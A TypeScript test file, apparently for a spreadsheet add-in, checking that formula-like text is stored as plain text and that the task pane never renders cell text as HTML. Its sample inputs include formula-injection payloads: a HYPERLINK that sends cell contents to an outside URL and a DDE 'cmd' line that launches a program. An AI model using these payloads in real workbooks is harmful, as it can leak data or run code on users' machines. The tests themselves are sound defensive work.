/**
 * Guarantee 4: text that begins with =, +, -, @, a tab or a carriage return is always written as
 * text, never as a formula — in every adapter (memory, Office.js through the simulator, a real
 * .xlsx file saved and loaded again), also into cells formatted as Text, and through the import
 * use-case. And nothing from a cell is ever rendered as HTML in the task pane.
 */
import { readFileSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { importPortfolio } from "../../src/app/import-portfolio";
import { readPortfolio } from "../../src/app/read-portfolio";
import { openXlsx, saveXlsx } from "../support/xlsx-adapter";
import type { CellWrite, WorkbookChange } from "../../src/core/workbook/workbook-port";
import { MAPPING } from "../app/sheets/sheets-fixture";
import { SHEET_YEAR_WHEEL } from "../../src/core/sheets/shared/sheet-names";
import { aBenefit, aDeepDive, aMeasure, aPortfolio } from "../support/builders";
import { makeHost, xlsxHost, type HostKind } from "./support/hosts";

const DANGEROUS = ["=", "+", "-", "@", "\t", "\r"];
const EXAMPLES = [
  '=HYPERLINK("https://example.com/?q="&A1,"Klikk her")',
  "=1+1",
  "+47 22 00 00 00",
  "-1+2",
  "-5",
  "@SUM(A1:A9)",
  "\t=cmd|' /C calc'!A0",
  "\r=1+1",
  "'=sitert",
  "=",
];

const dangerousText = fc
  .tuple(fc.constantFrom(...DANGEROUS), fc.string({ maxLength: 30 }))
  .map(([first, rest]) => first + rest);

const SHEET = "Gevinst Test";
const BASE = {
  sheets: [
    { name: "Budsjett", rows: [["Ansvar", "Beløp"]] },
    { name: SHEET, rows: [["x"]] },
  ],
};

const write = (texts: readonly string[], row = 1): WorkbookChange => ({
  kind: "writeCells",
  sheet: SHEET,
  at: { row, col: 0 },
  cells: texts.map((text): CellWrite[] => [{ kind: "value", value: text }]),
});

describe.each<HostKind>(["memory", "excel", "xlsx"])(
  "text written through the %s adapter",
  (kind) => {
    it("reads back as the same text, never as a formula", async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.array(dangerousText, { minLength: 1, maxLength: 20 }),
          async (texts) => {
            const host = await makeHost(kind, BASE);
            const all = [...EXAMPLES, ...texts];

            await host.port.apply([write(all)]);
            const [grid] = await host.port.readSheets([SHEET], { formulas: true });

            const read = all.map((_, i) => grid?.values[i + 1 - (grid.origin.row ?? 0)]?.[0]);
            expect(read).toEqual(all);
            expect(grid?.formulas?.flat().filter((f) => f !== null)).toEqual([]);
          },
        ),
        { numRuns: kind === "xlsx" ? 40 : 100 },
      );
    });

    it("stays text after being written into cells formatted as Text", async () => {
      const host = await makeHost(kind, BASE);
      await host.port.apply([
        {
          kind: "formatRange",
          sheet: SHEET,
          range: { row: 1, col: 0, rows: EXAMPLES.length, cols: 1 },
          style: { numberFormat: "@" },
        },
      ]);

      await host.port.apply([write(EXAMPLES)]);
      const [grid] = await host.port.readSheets([SHEET], { formulas: true });

      expect(EXAMPLES.map((_, i) => grid?.values[i + 1]?.[0])).toEqual(EXAMPLES);
    });
  },
);

describe("a real .xlsx round trip", () => {
  it("stores every dangerous text as a string cell, not a formula, after save and load", async () => {
    const host = await xlsxHost(BASE);
    await host.port.apply([write(EXAMPLES)]);
    const book = await openXlsx(await saveXlsx(host.book));
    const sheet = book.requireSheet(SHEET);

    const cells = EXAMPLES.map((_, i) => sheet.getCell(i + 2, 1));

    expect(cells.map((c) => c.type)).toEqual(EXAMPLES.map(() => ExcelJS.ValueType.String));
    // exceljs writes a carriage return unescaped, and XML reads it back as a line feed (a known
    // limitation, docs/reliability.md): the text changes by that one character, never into a formula.
    expect(cells.map((c) => c.value)).toEqual(EXAMPLES.map((t) => t.replace(/\r/g, "\n")));
  });
});

describe.each<HostKind>(["memory", "excel", "xlsx"])("the import use-case through %s", (kind) => {
  it("writes a measure named like a formula as text and reads it back", async () => {
    const host = await makeHost(kind, {
      sheets: [
        {
          name: "Budsjett",
          rows: [
            ["Ansvar", "Art", "Funksjon", "Budsjett 2027", "ØP 2028", "ØP 2029", "ØP 2030"],
            ["3100", "10300", "254", 1, 2, 3, 4],
          ],
        },
      ],
    });
    const evil = '=HYPERLINK("https://example.com","Klikk")';
    const portfolio = aPortfolio({
      organisation: "+47 kommune",
      deepDives: [aDeepDive({ id: "DD1", name: "@Område", owner: "-Leder", gap: "\t=1+1" })],
      measures: [
        aMeasure({
          id: "T1",
          deepDive: "DD1",
          name: evil,
          owner: "=Kari",
          benefits: [aBenefit({ id: "T1-G1", name: "\r=2+2", owner: "+Sone" })],
        }),
      ],
    });

    await importPortfolio(host.port, portfolio, {
      now: new Date(0),
      user: "=Bruker",
      mapping: MAPPING,
    });
    const { portfolio: read } = await readPortfolio(host.port);
    const names = host.sheetNames().filter((n) => n.startsWith("Gevinst"));
    const grids = await host.port.readSheets(names, { formulas: true });

    expect(read.measures[0]?.name).toBe(evil);
    expect(read.measures[0]?.owner).toBe("=Kari");
    expect(read.measures[0]?.benefits[0]?.name).toBe("\r=2+2");
    expect(read.measures[0]?.benefits[0]?.owner).toBe("+Sone");
    expect(read.deepDives[0]).toMatchObject({ name: "@Område", owner: "-Leder", gap: "\t=1+1" });
    // The årshjul's own links to Gevinst sheets are Gevinst's formulas, not what was typed.
    const injected = grids
      .filter((g) => g.name !== SHEET_YEAR_WHEEL)
      .flatMap((g) => (g.formulas ?? []).flat())
      .filter((f) => f !== null && /HYPERLINK|Kari|2\+2|1\+1/.test(f));
    expect(injected).toEqual([]);
  });
});

/** Every file under `dir` (recursively) whose name ends with one of `endings`. */
function sourceFiles(dir: string, endings: readonly string[]): string[] {
  let entries: string[];
  try {
    entries = readdirSync(dir);
  } catch {
    return [];
  }
  return entries.flatMap((entry) => {
    const path = join(dir, entry);
    if (statSync(path).isDirectory()) return sourceFiles(path, endings);
    return endings.some((e) => entry.endsWith(e)) ? [path] : [];
  });
}

describe("the task pane renders no cell text as HTML", () => {
  const root = join(__dirname, "..", "..", "src");
  const files = [
    ...sourceFiles(join(root, "taskpane"), [".ts", ".tsx"]),
    ...sourceFiles(join(root, "demo"), [".ts", ".tsx"]),
  ];

  it("has task pane sources to check", () => {
    expect(files.length).toBeGreaterThan(5);
  });

  it("never sets HTML from strings (innerHTML, outerHTML, insertAdjacentHTML, document.write, dangerouslySetInnerHTML)", () => {
    const pattern =
      /dangerouslySetInnerHTML|\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|document\.write\s*\(/;

    const offenders = files.filter((file) => pattern.test(readFileSync(file, "utf8")));

    expect(offenders).toEqual([]);
  });
});
